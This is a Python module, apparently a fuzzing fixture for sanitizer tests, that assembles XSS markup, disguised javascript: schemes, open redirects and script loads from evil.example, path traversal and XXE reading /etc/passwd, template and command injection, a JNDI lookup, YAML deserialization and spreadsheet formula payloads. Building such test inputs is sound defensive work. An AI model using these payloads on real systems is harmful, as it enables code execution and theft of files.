"""Hostile texts, made from their parts: what is written around a script, how a scheme is disguised, what breaks out."""

from collections.abc import Iterator
from itertools import product

SCRIPTS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)")
SCHEMES = ("javascript", "data", "vbscript", "file", "blob", "view-source", "ms-office", "feed", "jar", "livescript")
ACTIVE = ("javascript", "data", "vbscript")


def disguised(scheme: str) -> Iterator[str]:
    """Ways to write `scheme` and its colon that some reader takes for the same."""
    yield from (f"{scheme}:", f"{scheme.upper()}:", f"{scheme.title()}:", f" {scheme}:", f"\u00a0{scheme}:")
    for sign in ("&#58;", "&#x3a;", "&#0058", "&colon;", "%3a", "\uff1a", "\u2236", "\ua789", "\\:"):
        yield f"{scheme}{sign}"
    head, tail = scheme[:4], scheme[4:]
    for inner in ("&Tab;", "&NewLine;", "&#10;", "&#x0D;", "&#9;", "&#0;", "\u00ad", "%0a", "%09", "\\", "&shy;"):
        yield f"{head}{inner}{tail}:"
    yield f"&#{ord(scheme[0])};{scheme[1:]}:"
    yield f"&#x{ord(scheme[0]):x};{scheme[1:]}:"
    yield f"%{ord(scheme[0]):02x}{scheme[1:]}:"
    yield "".join(f"&#{ord(char)};" for char in f"{scheme}:")
    yield f"\u0130{scheme[1:]}:" if scheme.startswith("i") else f"{scheme.replace('s', 'ſ')}:"


def targets() -> Iterator[str]:
    """Addresses that must lead nowhere."""
    bodies = {"data": "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "file": "///etc/passwd"}
    for scheme in SCHEMES:
        for written in disguised(scheme) if scheme in ACTIVE else (f"{scheme}:",):
            yield written + bodies.get(scheme, "alert(1)")
    yield from _ADDRESSES


_ADDRESSES = (
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "///evil.example",
    "https:evil.example",
    "https://good.example@evil.example/",
    "https://good.example\\@evil.example",
    "http:///evil.example",
    "data:,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript://%0aalert(1)",
    "?x=javascript:alert(1)",
    "../../../../etc/passwd",
    "..%2f..%2fetc/passwd",
    "%2e%2e/%2e%2e/x",
    "/etc/passwd",
    'x" onclick="alert(1)',
    "mailto:a@b.example?bcc=c@d.example&body=<script>",
    "tel:+49;phone-context=<x>",
    '#"><script>alert(1)</script>',
)
_MARKUPS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script src=//evil.example></script>",
    "<script\n>{0}</script\n>",
    "<script/x>{0}</script>",
    "<<script>{0}//<</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "\x3cscript\x3e{0}",
    "<img src=x onerror={0}>",
    "<img/src=x/onerror={0}>",
    "<img src=`x`onerror={0}>",
    '<img """><script>{0}</script>">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><a xlink:href='javascript:{0}'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={0}&gt;'>",
    "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<object data='data:text/html,x'>",
    "<embed src='//evil.example/x.swf'>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<button formaction=javascript:{0}>x",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    '<meta http-equiv=content-security-policy content="script-src *">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url('javascript:{0}')}}</style>",
    "<p style='background:url(javascript:{0})'>",
    "<x onclick={0}>x",
    "<body onload={0}>",
    "<html onclick={0}>",
    "<video><source onerror={0}></video>",
    "<audio src onerror={0}>",
    "<marquee onstart={0}>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><script>{0}</script>'>",
    "<textarea></textarea><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</script><script>{0}</script>",
    "</main></body></html><script>{0}</script>",
    "<!--<script>{0}</script>",
    "<!-- --!><script>{0}</script> -->",
    "<![CDATA[<script>{0}</script>]]>",
    "]]><script>{0}</script>",
    "<?php echo 1 ?><script>{0}</script>",
    "<?xml-stylesheet href='javascript:{0}'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{0}",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "&#x3C;script&#x3E;{0}",
    "&lt;img src=x onerror={0}&gt;",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u2039script\u203a{0}",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
)
_BREAKOUTS = (
    '" onmouseover="{0}',
    "' onmouseover='{0}",
    '" autofocus onfocus={0} x="',
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "`\"'><img src=x onerror={0}>",
    "&quot; onclick=&quot;{0}",
    "&#34; onclick=&#34;{0}",
    "&#39; onclick=&#39;{0}",
    "x onclick={0} ",
    '\\" onclick=\\"{0}',
    "\u201c onclick=\u201c{0}",
    '="" onclick={0} "',
    "/ onclick={0}",
    '"/onclick={0}//',
)
_TEMPLATES = (
    "{{{{ 7*7 }}}}",
    "{{% for x in (1,) %}}49{{% endfor %}}",
    "{{# x #}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{{{ config }}}}",
    "{{% include '/etc/passwd' %}}",
    "{{% import 'os' as x %}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{{{self._TemplateReference__context}}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}",
    "{{{{ view|attr('__class__') }}}}",
    "{{% raw %}}{{{{ x }}}}{{% endraw %}}",
    "${{jndi:ldap://evil.example/x}}",
    "`id`",
    "$(id)",
    "; id #",
    "| id",
    "!!python/object/apply:os.system ['id']",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
)
_SIGNS = (
    "\u202eevil\u202c",
    "\u2066evil\u2069",
    "\u200bin\u200bvi\u200bsible",
    "\ufeff",
    "a\u0301\u0302\u0303\u0304\u0305",
    "\U000e0041\U000e0042",
    "\ud7ff\ue000",
    "\ufffd",
    "\u2028alert(1)\u2029",
    "\u0085x",
    "ﬀﬁ",
    "İıſK",
    "\u00adsoft\u00ad",
    "\U0001f468\u200d\U0001f469",
    "%00",
    "&#0;",
    "&#xD800;",
    "&#x110000;",
    "&#8238;evil",
    "&#x2028;",
    "&ZeroWidthSpace;x",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\\74script\\76",
    "\u1680x\u3000y",
)
_LOGS = (
    "::error file=x,line=1::evil",
    "::set-output name=x::y",
    "::add-mask::x",
    "::stop-commands::x",
    "##[error]evil",
    "##vso[task.setvariable variable=x]y",
    "##teamcity[buildStatus status='FAILURE']",
    "%0A::error::x",
    "%0D%0A::error::x",
    "section_start:1:x",
    "[0Ksection_end:1:x",
    "[31mred[0m",
    "]8;;https://evil.example\\click]8;;\\",
    "BEGIN:VEVENT",
    "END:VCARD",
    "\\nATTENDEE:mailto:a@b.example",
    "DTSTART:19700101T000000",
    ";X-EVIL=1:y",
    "TEL;TYPE=cell:+49190",
    "\\, \\; \\n \\N \\\\",
    "location / { return 301 //evil.example; }",
    "RewriteRule ^ //evil.example",
    '"; add_header X y; #',
    "User-agent: *",
    "Sitemap: //evil.example",
    '{"x": "</script>"}',
    "\\u2028",
    "null",
    "NaN",
    "1e999",
    "__proto__",
    "constructor",
    "toString",
)
_MARKDOWN = (
    "[x]({0})",
    "[x](<{0}>)",
    '[x]({0} "t")',
    "![x]({0})",
    "<{0}>",
    "[x][1]\n\n[1]: {0}",
    "[x][1]\n\n[1]: <{0}> 'on\"click=\"x'",
    "[![x]({0})]({0})",
    "[x](\n{0}\n)",
    "`[x]({0})`",
    "[x](https://a.example/?{0})",
    "## [x]({0}) {{#a}}",
    "| [x]({0}) |\n| --- |\n| y |",
)
_BLOCKS = (
    '```" onclick=alert(1) x="\ncode\n```',
    "~~~</code></pre><script>alert(1)</script>\ncode\n~~~",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '## x {#" onclick=alert(1)}',
    "## x {onclick=alert(1)}",
    "> **<script>alert(1)</script>:** x",
    "> **Wichtig:** <script>alert(1)</script>",
    "<div\n\nonclick=alert(1)>x",
    "<!--\n\n<script>alert(1)</script>\n\n-->",
    "    <script>alert(1)</script>",
    "* <script>alert(1)</script>",
    "1. <script>alert(1)</script>",
    "| a |\n| --- |\n| <script>alert(1)</script> |",
    "[x]: javascript:alert(1)\n\n[x]",
    '![<script>](x "<script>")',
    "***<script>alert(1)</script>***",
    "\\<script>alert(1)\\</script>",
    "<javascript:alert(1)>",
    "<script>alert(1)</script>\n===\n\ntext",
    "&lt;script&gt;alert(1)",
    "**bold<script>**alert(1)</script>",
    "a<br onclick=alert(1)>b",
    "[a](b 'c\"onclick=alert(1)')",
    '![a](b.svg#"onload=alert(1))',
    '<https://x.example/"onclick=alert(1)>',
)


def phrases() -> tuple[str, ...]:
    """For every field that holds words, one line each."""
    made = [form.format(script) for form, script in product((*_MARKUPS, *_BREAKOUTS), SCRIPTS)]
    made += [form.format(0) for form in _TEMPLATES]
    made += [*_SIGNS, *_LOGS, *(target.replace("\n", " ") for target in targets())]
    return tuple(dict.fromkeys(" ".join(each.split("\n")) for each in made))


def texts() -> tuple[str, ...]:
    """For Markdown: the phrases, and every address in every place for one."""
    made = [form.format(target) for form, target in product(_MARKDOWN, targets())]
    return tuple(dict.fromkeys([*_BLOCKS, *made, *phrases()]))
